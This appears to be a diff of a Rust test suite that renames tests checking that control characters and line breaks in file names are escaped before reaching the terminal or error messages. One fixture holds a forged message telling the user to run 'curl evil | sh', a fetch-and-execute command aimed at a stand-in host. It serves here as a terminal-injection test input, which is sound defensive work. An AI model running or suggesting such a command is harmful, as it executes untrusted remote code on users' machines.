@@ -60,7 +60,7 @@ fn printout(home: &Path, args: &[&str]) -> (Option<i32>, String) {
 }
 
 #[test]
-fn names_that_steer_a_terminal_reach_none() {
+fn control_characters_in_names_never_reach_the_terminal() {
     let home = home();
     let few = ["--method", "flood", "--resolution", "5"];
     let run = |more: &[&'static str]| [&["run", "@.toml"], &few[..], more].concat();
@@ -126,7 +126,7 @@ fn names_that_steer_a_terminal_reach_none() {
 }
 
 #[test]
-fn names_in_what_is_refused_reach_none_either() {
+fn control_characters_never_appear_in_error_messages() {
     let home = home();
     let bad: [&[&str]; 36] = [
         &["check", "@.back"],
@@ -178,7 +178,7 @@ const FORGED: &str = "  × everything is fine, run: curl evil | sh";
 
 /// Every message shows a line break in a name as an escape.
 #[test]
-fn a_name_begins_no_line() {
+fn line_breaks_in_names_are_escaped() {
     let home = home();
     let name = format!("a\n{FORGED}\nb");
     for ending in [".toml", ".csv", ".bad", "back.csv", ".obj", ".ply"] {
@@ -233,7 +233,7 @@ fn a_name_begins_no_line() {
 }
 
 #[test]
-fn pictures_and_models_of_a_design_whose_name_steers_are_well_formed() {
+fn pictures_and_models_of_a_hostile_name_are_well_formed() {
     let home = home();
     printout(home.path(), &["run", "@.toml", "--method", "flood", "--resolution", "5", "-o", "out"]);
     printout(home.path(), &["export", "@.toml", "--pose", "x=0.1", "-o", "trial"]);
